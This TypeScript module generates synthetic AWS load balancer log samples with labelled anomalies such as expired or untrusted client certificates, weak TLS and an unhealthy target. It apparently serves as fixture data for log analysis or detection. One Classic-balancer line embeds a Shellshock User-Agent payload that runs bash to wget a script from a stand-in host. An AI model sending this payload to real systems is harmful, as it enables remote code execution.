import { attacks, outage, type Labelled } from './attacks.ts';
import { edge, partner, portal, shop, shopBefore, type Balancer } from './balancers.ts';
import { attackers, newVisitor } from './clients.ts';
import { albLine, classicLine, connectionLine, healthLine, nlbLine } from './lines.ts';
import { chanceOf, type Chance } from './random.ts';
import { rarities, visit } from './visits.ts';

export interface SampleLine {
  readonly text: string;
  /** What the line is an example of; absent for ordinary traffic. */
  readonly attack?: string;
}

export interface SampleObject {
  /** The object's key in its bucket; the path under `samples/`. */
  readonly name: string;
  readonly gzipped: boolean;
  readonly lines: readonly SampleLine[];
}

/** The hour of the samples, a Tuesday evening. */
export const hourMs = Date.UTC(2026, 8, 15, 18);
const minute = 60_000;
const interval = 5 * minute;

/** Everything under `samples/`, the same on every machine. */
export function sampleObjects(): readonly SampleObject[] {
  const chance = chanceOf(0x5eed);
  return [
    { name: `AWSLogs/${shop.account}/ELBAccessLogTestFile`, gzipped: false, lines: [{ text: testFile }] },
    ...before(chance),
    ...shopObjects(chance),
    ...healthObjects(chance),
    ...partnerObjects(chance),
    ...edgeObjects(chance),
    portalObject(chance),
  ];
}

const testFile = `Enable AccessLog for ELB: ${shop.name} at 2026-09-01T07:30:11.204Z`;

function key(lb: Balancer, endMs: number, part: { prefix?: string; node?: string; random: string }): string {
  const end = new Date(endMs).toISOString();
  const [kind] = lb.name.split('/');
  const suffix = kind === lb.name ? '.log' : '.log.gz';
  const file = [
    `${part.prefix ?? ''}${lb.account}`,
    'elasticloadbalancing',
    lb.region,
    lb.name.replaceAll('/', '.'),
    `${end.slice(0, 16).replaceAll(/[-:]/g, '')}Z`,
    ...(part.node === undefined ? [] : [part.node]),
    part.random,
  ].join('_');
  const folder = `AWSLogs/${lb.account}/elasticloadbalancing/${lb.region}/${end.slice(0, 10).replaceAll('-', '/')}`;
  return `${folder}/${file}${suffix}`;
}

function shopObjects(chance: Chance): readonly SampleObject[] {
  const traffic: Labelled[] = [...attacks(chance, hourMs), ...outage(chance, hourMs)];
  for (const request of rarities(chance, hourMs)) traffic.push({ request });
  for (let count = 0; count < 190; count += 1) {
    for (const request of visit(chance, hourMs + chance.between(0, 58 * minute))) traffic.push({ request });
  }
  traffic.sort((a, b) => a.request.atMs - b.request.atMs || a.request.clientPort - b.request.clientPort);
  return objectsByInterval(traffic, ({ request }) => request.atMs).flatMap(({ endMs, items }) =>
    shop.nodes.map((node, index) => ({
      name: key(shop, endMs, { node, random: chance.hex(8) }),
      gzipped: true,
      lines: items
        .filter(({ request }) => request.clientPort % 2 === index)
        .map(({ request, attack }) => labelled(albLine(shop, node, request, 34), attack)),
    })),
  );
}

/** Objects of 2024 and 2025, when lines had 29, 30 and 33 columns. */
function before(chance: Chance): readonly SampleObject[] {
  const times = [
    [Date.UTC(2024, 2, 5, 9), 29],
    [Date.UTC(2025, 5, 17, 9), 30],
    [Date.UTC(2025, 9, 2, 9), 33],
  ] as const;
  const [node] = shopBefore.nodes;
  return times.map(([fromMs, width]) => ({
    name: key(shopBefore, fromMs + interval, { node, random: chance.hex(8) }),
    gzipped: true,
    lines: [visit(chance, fromMs, shopBefore), visit(chance, fromMs, shopBefore)]
      .flat()
      .filter(({ atMs }) => atMs < fromMs + interval)
      .map((request) => labelled(albLine(shopBefore, node, request, width))),
  }));
}

function healthObjects(chance: Chance): readonly SampleObject[] {
  const [node] = shop.nodes;
  return [25, 30, 35].map((endMinute) => ({
    name: key(shop, hourMs + endMinute * minute, { prefix: 'health_check_log_', node, random: chance.hex(8) }),
    gzipped: true,
    lines: Array.from({ length: 10 }, (_, turn) => hourMs + (endMinute - 5) * minute + turn * 30_000).flatMap(
      (fromMs) =>
        shop.targets.map((target, index) => {
          const broken = index === 2 && fromMs >= hourMs + 27 * minute && fromMs < hourMs + 30 * minute;
          const check = {
            atMs: fromMs + chance.between(0, 900),
            latencyMs: chance.between(2, 24),
            target,
            status: 200,
          };
          if (!broken) return labelled(healthLine(shop, node, check));
          const failed = { ...check, status: 503, reason: 'ResponseCodeMismatch' };
          return labelled(healthLine(shop, node, failed), 'unhealthy-target');
        }),
    ),
  }));
}

/** Machines of partners that prove themselves by client certificates. */
function partnerObjects(chance: Chance): readonly SampleObject[] {
  const [node] = partner.nodes;
  const subjects = ['CN=orders.partner-a.example,O=Partner A,C=DE', 'CN=stock.partner-b.example,O=Partner B,C=US'];
  const tls = ['TLS_AES_128_GCM_SHA256', 'TLSv1.3'] as const;
  return [20, 25].map((endMinute, index) => {
    const fromMs = hourMs + (endMinute - 5) * minute;
    const line = (
      secondsIn: number,
      change: Partial<Parameters<typeof connectionLine>[2]>,
      attack?: string,
    ): SampleLine => {
      const certificate = {
        subject: chance.pick(subjects),
        validity: 'NotBefore=2026-01-10T00:00:00Z;NotAfter=2027-02-10T23:59:59Z',
        serial: chance.hex(16).toUpperCase(),
      };
      const connection = {
        atMs: fromMs + secondsIn * 1000,
        client: newVisitor(chance).address,
        clientPort: chance.between(1025, 65_000),
        tls,
        handshakeMs: chance.between(2, 30),
        certificate,
        verified: 'Success',
        connection: chance.hex(32),
        ...change,
      };
      return labelled(connectionLine(partner, node, connection), attack);
    };
    const ordinary = Array.from({ length: 14 }, (_, turn) => line(turn * 15 + chance.between(0, 9), {}));
    const expired = { subject: 'CN=stock.partner-b.example,O=Partner B,C=US', serial: '0C55A1D2E3F40918' };
    const validity = 'NotBefore=2025-08-01T00:00:00Z;NotAfter=2026-09-01T23:59:59Z';
    const unknown = {
      subject: 'CN=localhost',
      validity: 'NotBefore=2026-09-15T00:00:00Z;NotAfter=2036-09-12T00:00:00Z',
      serial: '01',
    };
    const [prober] = attackers.prober;
    const odd =
      index === 0
        ? [
            line(
              251,
              { certificate: { ...expired, validity }, verified: 'Failed:ClientCertExpired' },
              'certificate-expired',
            ),
          ]
        : [
            line(
              240,
              { client: prober, certificate: unknown, verified: 'Failed:ClientCertUntrusted' },
              'certificate-untrusted',
            ),
            line(244, { client: prober, tls: ['ECDHE-RSA-AES128-SHA', 'TLSv1'] }, 'weak-tls'),
          ];
    return {
      name: key(partner, hourMs + endMinute * minute, { prefix: 'conn_log_', node, random: chance.hex(8) }),
      gzipped: true,
      lines: [...ordinary, ...odd],
    };
  });
}

function edgeObjects(chance: Chance): readonly SampleObject[] {
  return [10, 15].map((endMinute, index) => {
    const fromMs = hourMs + (endMinute - 5) * minute;
    const ordinary = Array.from({ length: 18 }, (_, turn) => {
      const { address, port, tls } = newVisitor(chance);
      return nlbLine(edge, {
        atMs: fromMs + turn * 14_000,
        client: address,
        clientPort: port,
        target: chance.pick(edge.targets),
        lastedMs: chance.between(900, 240_000),
        handshakeMs: chance.between(1, 60),
        received: chance.between(400, 90_000),
        sent: chance.between(400, 60_000),
        tls: [tls[0], tls[1] === 'TLSv1.3' ? 'tlsv13' : 'tlsv12'],
        sni: edge.host,
      });
    }).map((text) => labelled(text));
    const [client] = attackers.survey;
    const refused = { atMs: fromMs + 260_000, client, clientPort: 40_112, target: edge.targets[0] ?? '-' };
    const broken = nlbLine(edge, { ...refused, lastedMs: 7, received: 0, sent: 7, alert: '70' });
    return {
      name: key(edge, hourMs + endMinute * minute, { random: chance.hex(8) }),
      gzipped: true,
      lines: index === 0 ? ordinary : [...ordinary, labelled(broken, 'tls-alert')],
    };
  });
}

/** A Classic balancer writes one plain object an hour. */
function portalObject(chance: Chance): SampleObject {
  const [node] = portal.nodes;
  const tls = ['ECDHE-RSA-AES128-GCM-SHA256', 'TLSv1.2'] as const;
  const pages = [
    '/',
    '/login',
    '/menu/week-38',
    '/rooms?floor=2&day=tue',
    '/phonebook?name=o%27brien',
    '/news/union-vote',
  ];
  const ordinary = Array.from({ length: 40 }, (_, turn) => {
    const { address, port, userAgent } = newVisitor(chance);
    return classicLine(portal, {
      atMs: hourMs + turn * 80_000 + chance.between(0, 9000),
      client: address,
      clientPort: port,
      backend: chance.pick(portal.targets),
      backendMs: chance.between(2, 90),
      status: 200,
      backendStatus: 200,
      received: 0,
      sent: chance.between(900, 30_000),
      request: `GET https://${portal.host}:443${chance.pick(pages)} HTTP/1.1`,
      userAgent,
      tls,
    });
  }).map((text) => labelled(text));
  const [client] = attackers.botnet;
  const shell = {
    atMs: hourMs + 54 * minute,
    client,
    clientPort: 51_040,
    status: 404,
    backend: portal.targets[0] ?? '-',
    backendStatus: 404,
    received: 0,
    sent: 318,
    request: `GET http://${portal.host}:80/cgi-bin/status HTTP/1.1`,
    userAgent: '() { :;}; /bin/bash -c \\"wget http://203.0.113.250/b.sh\\"',
  };
  return {
    name: key(portal, hourMs + 60 * minute, { node, random: chance.hex(8) }),
    gzipped: false,
    lines: [...ordinary, labelled(classicLine(portal, shell), 'shellshock')],
  };
}

function objectsByInterval<T>(
  items: readonly T[],
  at: (item: T) => number,
): readonly { endMs: number; items: readonly T[] }[] {
  const byEnd = new Map<number, T[]>();
  for (const item of items) {
    const endMs = (Math.floor(at(item) / interval) + 1) * interval;
    const found = byEnd.get(endMs);
    if (found === undefined) byEnd.set(endMs, [item]);
    else found.push(item);
  }
  return [...byEnd].map(([endMs, found]) => ({ endMs, items: found }));
}

function labelled(text: string, attack?: string): SampleLine {
  return attack === undefined ? { text } : { text, attack };
}
